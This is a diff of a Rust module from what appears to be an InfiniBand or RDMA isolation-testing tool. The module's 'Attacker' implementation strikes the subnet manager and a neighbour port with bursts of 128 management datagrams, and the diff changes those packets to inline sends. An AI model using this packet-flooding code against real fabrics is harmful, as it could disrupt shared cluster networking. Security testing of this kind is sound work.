@@ -2,7 +2,7 @@
 //! administration, to the neighbour, and to the port's own agents.
 
 use driver::bits::request;
-use driver::{AddressVector, Config, Data, ENTRY, Opcode, QueuePair, SendRequest, Sge, Transport};
+use driver::{AddressVector, Config, Data, ENTRY, Opcode, QueuePair, SendRequest, Transport};
 
 use super::attacker::Attacker;
 use super::batch::{self, Letter, SLOTS};
@@ -16,8 +16,8 @@ const MAD: usize = 256;
 const QKEY: u32 = 0x8001_0000;
 /// Packets of a strike.
 const PACKETS: usize = 128;
-/// Blocks of the send queue, of which each packet takes two.
-const LOG_BLOCKS: u32 = 9;
+/// Blocks of the send queue, of which each packet takes six.
+const LOG_BLOCKS: u32 = 10;
 
 /// The head of a management packet (IBA 13.4.3).
 fn mad(class: u8, version: u8, method: u8, attribute: u16) -> [u8; MAD] {
@@ -36,6 +36,7 @@ pub(super) struct Mads {
     own_port: Vec<[u8; ENTRY]>,
     _letters: [Letter; 2],
     to: [AddressVector; 2],
+    packets: [[u8; MAD]; 2],
     peer: Peer,
 }
 
@@ -51,8 +52,7 @@ impl Mads {
         const GET_TABLE: u8 = 0x12;
         const NODE_RECORD: u16 = 0x11;
         const VENDOR: u8 = 0x32;
-        peer.buffer.write(0, &mad(3, 2, GET_TABLE, NODE_RECORD));
-        peer.buffer.write(MAD, &mad(VENDOR, 1, 1, 1));
+        let packets = [mad(3, 2, GET_TABLE, NODE_RECORD), mad(VENDOR, 1, 1, 1)];
         let to = [peer.port.sm_lid, neighbour].map(|lid| AddressVector {
             lid,
             qpn: 1,
@@ -73,6 +73,7 @@ impl Mads {
             own_port: vec![letter.entry(Some(&reply)); SLOTS],
             _letters: [letter, reply],
             to,
+            packets,
             peer,
         })
     }
@@ -82,12 +83,8 @@ impl Attacker for Mads {
     fn strike(&mut self) -> Result<()> {
         for number in 0..PACKETS {
             let at = number % 2;
-            let list = [Sge {
-                addr: self.peer.region.start() + (at * MAD) as u64,
-                len: MAD as u32,
-                key: self.peer.region.key(),
-            }];
-            let packet = SendRequest::send(Data::Memory(&list)).to(&self.to[at]);
+            // Within the request: of a VF that is passed through, packets in keys like this driver's are refused.
+            let packet = SendRequest::send(Data::Inline(&self.packets[at])).to(&self.to[at]);
             if number + 1 < PACKETS {
                 self.pair.post(&packet.unsignaled())?;
             } else {
